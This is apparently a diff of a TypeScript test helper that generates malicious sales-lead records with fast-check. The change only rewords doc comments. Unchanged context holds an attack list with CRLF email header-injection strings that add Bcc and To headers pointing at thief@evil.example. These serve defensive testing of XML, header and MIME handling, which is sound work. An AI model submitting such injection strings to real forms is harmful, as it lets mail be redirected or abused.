@@ -1,9 +1,9 @@
-/** Leads as they come from visitors who mean harm, for tests and measurements. */
+/** Malicious leads for tests and benchmarks. */
 import * as fc from 'fast-check';
 import type { Lead, LeadAddress, LeadContact, LeadContent, LeadVehicle } from '../lead.ts';
 import { exampleSubmission, exampleVehicle } from '../testing.ts';
 
-/** A whole lead, changed where a test needs it. */
+/** A complete lead, customizable by tests. */
 export function exampleLead(change: Partial<Lead> = {}): Lead {
   const { dealership, form, topic, content, circumstances, vendor, consent } = exampleSubmission();
   return {
@@ -24,7 +24,7 @@ export function exampleLead(change: Partial<Lead> = {}): Lead {
   };
 }
 
-/** What breaks XML, headers and MIME, each by its own way. */
+/** Texts that attack XML, headers, and MIME in different ways. */
 const ATTACKS = [
   'Ann\r\nBcc: thief@evil.example',
   'Ann\nTo: thief@evil.example\n\nbody',
@@ -116,7 +116,7 @@ const anyConsent: fc.Arbitrary<Lead['consent']> = orNull(
   fc.record({ textVersion: anyLine, wording: anyText, isChecked: orNull(fc.boolean()) }),
 );
 
-/** Any lead that could be stored, and some that could not. */
+/** Arbitrary leads, including some that could not be stored. */
 export const anyLead: fc.Arbitrary<Lead> = fc
   .record({
     id: fc.uuid({ version: 7 }),
